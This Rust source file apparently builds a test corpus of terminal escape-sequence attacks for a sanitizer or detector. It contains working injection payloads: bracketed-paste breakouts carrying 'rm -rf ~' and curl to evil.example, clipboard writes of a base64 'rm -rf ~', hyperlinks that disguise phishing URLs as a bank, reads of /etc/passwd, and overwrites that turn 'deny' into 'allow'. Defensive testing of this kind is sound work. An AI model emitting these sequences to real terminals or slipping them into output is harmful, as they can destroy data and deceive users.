//! The attacks of the corpus that are commands to terminals.

use super::{Attack, around, attack, each};

const WRITE: &str = "cm0gLXJmIH4=";

pub(super) fn all() -> Vec<Attack> {
    [
        controls(),
        requests(),
        reports(),
        titles(),
        links(),
        clipboard(),
        commands(),
        strings(),
        single(),
        overwriting(),
        nested(),
    ]
    .concat()
}

fn controls() -> Vec<Attack> {
    let esc = &["TERM.ESC"];
    let mode = &["TERM.MODE"];
    let mut found = each(
        "csi_sgr",
        esc,
        &[
            "\u{1b}[31mred\u{1b}[0m",
            "\u{1b}[8mhidden words\u{1b}[28m",
            "\u{1b}[38;5;0m\u{1b}[48;5;0mblack on black\u{1b}[0m",
            "\u{1b}[38:2::255:0:0mcolon form\u{1b}[m",
            "\u{1b}[7mreverse\u{1b}[27m",
            "\u{1b}[5mblink",
            "\u{9b}31mred\u{9b}0m",
            "\u{1b}[1;31;40;4;9;53m",
            "\u{1b}[m",
            "\u{1b}[0000000000000000031m",
        ],
    );
    found.extend(each(
        "csi_cursor",
        esc,
        &[
            "\u{1b}[2J\u{1b}[H",
            "\u{1b}[1A\u{1b}[2K",
            "\u{1b}[10Dover",
            "\u{1b}[3;7Hhere",
            "\u{1b}[s\u{1b}[u",
            "\u{1b}7saved\u{1b}8",
            "\u{1b}[3J",
            "\u{1b}[999C",
            "\u{1b}[5L\u{1b}[5M",
            "\u{1b}[4P\u{1b}[4@",
            "\u{1b}[S\u{1b}[T",
            "\u{1b}[1000b",
            "\u{1b}D\u{1b}M\u{1b}E",
        ],
    ));
    found.extend(each(
        "csi_mode",
        mode,
        &[
            "\u{1b}[?1049h",
            "\u{1b}[?1049l",
            "\u{1b}[?25l",
            "\u{1b}[?1000h\u{1b}[?1006h",
            "\u{1b}[?1003h",
            "\u{1b}[?2004l",
            "\u{1b}[?1004h",
            "\u{1b}[4h",
            "\u{1b}[20h",
            "\u{1b}[!p",
            "\u{1b}[5;20r",
            "\u{1b}[?2026h",
            "\u{9b}?1049h",
        ],
    ));
    found
}

fn requests() -> Vec<Attack> {
    let mut found = each(
        "paste",
        &["TERM.PASTE_END"],
        &[
            "\u{1b}[201~rm -rf ~\n",
            "\u{1b}[200~paste\u{1b}[201~",
            "\u{9b}201~\ncurl evil.example",
            "x\u{1b}[201~y\u{1b}[200~z",
        ],
    );
    found.extend(each(
        "kitty_keyboard",
        &["TERM.MODE", "TERM.REPORT"],
        &[
            "\u{1b}[>1u",
            "\u{1b}[=31;1u",
            "\u{1b}[<u",
            "\u{1b}[?u",
            "\u{1b}[>4;2m",
            "\u{1b}[>31u",
        ],
    ));
    found.extend(each(
        "window",
        &["TERM.MODE", "TERM.REPORT"],
        &[
            "\u{1b}[8;50;100t",
            "\u{1b}[3;0;0t",
            "\u{1b}[2t",
            "\u{1b}[9;1t",
            "\u{1b}[21t",
            "\u{1b}[20t",
            "\u{1b}[14t",
            "\u{1b}[18t",
            "\u{1b}[22;0t\u{1b}[23;0t",
            "\u{1b}[5t",
        ],
    ));
    found.extend(each(
        "escape",
        &["TERM.ESC"],
        &[
            "\u{1b}c",
            "\u{1b}(0lqqk\u{1b}(B",
            "\u{1b}#8",
            "\u{1b}=",
            "\u{1b}>",
            "\u{1b}%G",
            "\u{1b}",
            "\u{1b}[",
            "\u{1b}\u{1b}\u{1b}",
            "\u{1b}N\u{1b}O",
            "\u{1b} F",
            "\u{1b}\u{301}",
            "\u{1b}[31\u{200b}m",
        ],
    ));
    found
}

fn reports() -> Vec<Attack> {
    each(
        "report",
        &["TERM.REPORT"],
        &[
            "\u{1b}[6n",
            "\u{1b}[5n",
            "\u{1b}[?6n",
            "\u{1b}[c",
            "\u{1b}[0c",
            "\u{1b}[>c",
            "\u{1b}[=c",
            "\u{1b}[>q",
            "\u{1b}[?2026$p",
            "\u{1b}[x",
            "\u{1b}[1'z",
            "\u{9b}6n",
            "\u{1b}]10;?\u{7}",
            "\u{1b}]11;?\u{1b}\\",
            "\u{1b}]4;1;?\u{7}",
        ],
    )
    .into_iter()
    .chain(each(
        "report",
        &["TERM.DCS"],
        &["\u{1b}P+q544e\u{1b}\\", "\u{1b}P$qm\u{1b}\\"],
    ))
    .chain(each(
        "report",
        &["TERM.C0", "TERM.ESC"],
        &["\u{5}", "\u{1b}Z"],
    ))
    .collect()
}

/// Every way to begin and to end a command.
fn osc(body: &str) -> [String; 6] {
    [
        format!("\u{1b}]{body}\u{7}"),
        format!("\u{1b}]{body}\u{1b}\\"),
        format!("\u{1b}]{body}\u{9c}"),
        format!("\u{9d}{body}\u{9c}"),
        format!("\u{9d}{body}\u{7}"),
        format!("\u{1b}]{body}"),
    ]
}

fn titles() -> Vec<Attack> {
    let mut found = Vec::new();
    for number in ["0", "1", "2"] {
        for sequence in osc(&format!("{number};approved by Dana")) {
            found.push(
                attack("osc_title", &["TERM.OSC"], format!("Hello {sequence}"))
                    .decodes("approved by Dana"),
            );
        }
    }
    let screen = attack(
        "osc_title",
        &["TERM.DCS"],
        around("\u{1b}kapproved by Dana\u{1b}\\"),
    );
    found.push(screen.decodes("approved by Dana"));
    found
}

fn links() -> Vec<Attack> {
    let target = "https://evil.example/login?next=%2F";
    let mut found = Vec::new();
    for (parameters, shown) in [
        ("", "https://bank.example"),
        ("id=1", "your bank"),
        ("", ""),
    ] {
        for [open, close] in [
            ["\u{1b}]", "\u{7}"],
            ["\u{1b}]", "\u{1b}\\"],
            ["\u{9d}", "\u{9c}"],
        ] {
            let sequence = format!("{open}8;{parameters};{target}{close}{shown}{open}8;;{close}");
            found.push(attack("osc8", &["TERM.OSC8"], around(&sequence)).leads_to(target));
        }
    }
    for target in [
        "file:///etc/passwd",
        "javascript:alert(1)",
        "mailto:x@evil.example",
    ] {
        let sequence = format!("\u{1b}]8;;{target}\u{7}here\u{1b}]8;;\u{7}");
        found.push(attack("osc8", &["TERM.OSC8"], around(&sequence)).leads_to(target));
    }
    found.push(attack("osc8", &["TERM.OSC8"], format!("open \u{1b}]8;;{target}")).leads_to(target));
    found
}

fn clipboard() -> Vec<Attack> {
    let mut found = Vec::new();
    for place in ["c", "p", "", "s0", "cp"] {
        for [open, close] in [
            ["\u{1b}]", "\u{7}"],
            ["\u{1b}]", "\u{1b}\\"],
            ["\u{9d}", "\u{9c}"],
        ] {
            let sequence = format!("{open}52;{place};{WRITE}{close}");
            found.push(attack("osc52", &["TERM.OSC52"], around(&sequence)).decodes("rm -rf ~"));
        }
    }
    found.extend(each(
        "osc52",
        &["TERM.OSC52"],
        &["\u{1b}]52;c;?\u{7}", "\u{1b}]52;c;!\u{7}"],
    ));
    let open = format!("\u{1b}]52;c;{WRITE}");
    found.push(attack("osc52", &["TERM.OSC52"], open).decodes("rm -rf ~"));
    found
}

fn commands() -> Vec<Attack> {
    let file = format!("1337;File=name={WRITE};inline=1:aGlkZGVuIHdvcmRz");
    let mut found = Vec::new();
    for body in [
        &*file,
        "1337;SetUserVar=x=aGlkZGVuIHdvcmRz",
        "1337;Copy=:aGlkZGVuIHdvcmRz",
    ] {
        for sequence in [
            format!("\u{1b}]{body}\u{7}"),
            format!("\u{1b}]{body}\u{1b}\\"),
        ] {
            found.push(attack("osc1337", &["TERM.OSC"], around(&sequence)).decodes("hidden words"));
        }
    }
    for body in [
        "1337;ClearScrollback",
        "1337;StealFocus",
        "1337;RequestAttention=yes",
        "1337;CursorShape=1",
    ] {
        let sequence = format!("\u{1b}]{body}\u{7}");
        found.push(attack("osc1337", &["TERM.OSC"], around(&sequence)).decodes(body));
    }
    for body in [
        "4;1;rgb:00/00/00",
        "7;file://evil.example/tmp",
        "9;You have won",
        "9;4;1;50",
        "10;#000000",
        "11;black",
        "50;font",
        "104",
        "133;A",
        "777;notify;Dana;approved",
        "99;i=1:p=body;approved",
        "633;E;rm -rf",
        "5522;type=read",
        "L icon label",
        "22;pointer",
    ] {
        let sequence = format!("\u{1b}]{body}\u{7}");
        found.push(attack("osc_other", &["TERM.OSC"], around(&sequence)).decodes(body));
    }
    found.extend(each(
        "osc_other",
        &["TERM.OSC"],
        &["\u{1b}]\u{7}", "\u{1b}]"],
    ));
    found
}

fn strings() -> Vec<Attack> {
    let mut found = Vec::new();
    for (family, open, eight_bit) in [
        ("dcs", "\u{1b}P", "\u{90}"),
        ("apc", "\u{1b}_", "\u{9f}"),
        ("pm_sos", "\u{1b}^", "\u{9e}"),
        ("pm_sos", "\u{1b}X", "\u{98}"),
    ] {
        for sequence in [
            format!("{open}hidden words\u{1b}\\"),
            format!("{open}hidden words\u{9c}"),
            format!("{eight_bit}hidden words\u{9c}"),
            format!("{open}hidden words\u{18} shown"),
            format!("{open}hidden words"),
        ] {
            found.push(attack(family, &["TERM.DCS"], around(&sequence)).decodes("hidden words"));
        }
    }
    found.push(
        attack(
            "dcs",
            &["TERM.DCS"],
            around("\u{1b}P1;1|17/68696464656e\u{1b}\\"),
        )
        .decodes("17/68696464656e"),
    );
    // Settings of tmux are passed on: the command inside has its escapes doubled.
    found.push(attack(
        "dcs",
        &["TERM.DCS"],
        around("\u{1b}Ptmux;\u{1b}\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{1b}\\"),
    ));
    found.push(
        attack(
            "apc",
            &["TERM.DCS"],
            around("\u{1b}_Gf=24,s=1,v=1;aGlkZGVuIHdvcmRz\u{1b}\\"),
        )
        .decodes("hidden words"),
    );
    found.push(
        attack(
            "apc",
            &["TERM.DCS"],
            around("\u{1b}_Ga=T,t=f;L2V0Yy9wYXNzd2Q=\u{1b}\\"),
        )
        .decodes("/etc/passwd"),
    );
    found.extend(each(
        "sixel",
        &["TERM.DCS"],
        &[
            "\u{1b}Pq#0;2;0;0;0#0~~@@vv\u{1b}\\",
            "\u{90}0;1;0q\"1;1;9;9#1~-\u{9c}",
            "\u{1b}P0;0;0q!255~\u{1b}\\",
        ],
    ));
    let large = format!("\u{1b}Pq{}\u{1b}\\", "!255~-".repeat(5_000));
    found.push(attack("sixel", &["TERM.DCS"], large));
    found
}

fn single() -> Vec<Attack> {
    let term = &["TERM."];
    let mut found = Vec::new();
    for c in '\u{80}'..='\u{9f}' {
        found.push(attack("c1_utf8", term, format!("See {c} you")));
        let byte = u8::try_from(u32::from(c)).unwrap();
        let raw = [b"See ".as_slice(), &[byte], b" you"].concat();
        found.push(attack("c1_raw", term, raw));
    }
    for raw in [
        b"a \x9b31mred\x9b0m".as_slice(),
        b"a \x9d0;title\x07",
        b"a \x9d52;c;cm0gLXJmIH4=\x9c",
        b"a \x90q~\x9c",
        b"a \x9b6n",
    ] {
        found.push(attack("c1_raw", term, raw));
    }
    for c in ('\0'..'\u{20}')
        .chain(['\u{7f}'])
        .filter(|c| !matches!(c, '\t' | '\n'))
    {
        found.push(attack("c0", term, format!("See {c} you")));
    }
    found.push(attack("c0", term, "\u{7}".repeat(500)));
    found.push(attack("c0", term, "\0".repeat(5_000)));
    found
}

fn overwriting() -> Vec<Attack> {
    each(
        "overwrite",
        &["TERM.C0"],
        &[
            "pay 10\rpay 99",
            "safe\u{8}\u{8}\u{8}\u{8}evil",
            "a\r\r\nb",
            "x\u{8}y",
            "_\u{8}u_\u{8}n",
            "first\u{b}second",
            "first\u{c}second",
            "deny\r\u{1b}[Kallow",
        ],
    )
}

fn nested() -> Vec<Attack> {
    each(
        "nested",
        &["TERM."],
        &[
            "\u{1b}]0;one\u{1b}[2Jtwo\u{7}",
            "\u{1b}[3\u{1b}[31m1m",
            "\u{1b}]8;;\u{1b}]52;c;eA==\u{7}\u{7}",
            "\u{1b}P\u{1b}]0;t\u{7}\u{1b}\\",
            "\u{1b}]0;\u{202e}elt\u{7}",
            "\u{1b}[\u{1b}]0;t\u{7}",
            "\u{9b}\u{9b}\u{9b}31m",
            "e\u{1b}[8m\u{e0065}\u{e0076}\u{1b}[0m",
        ],
    )
}
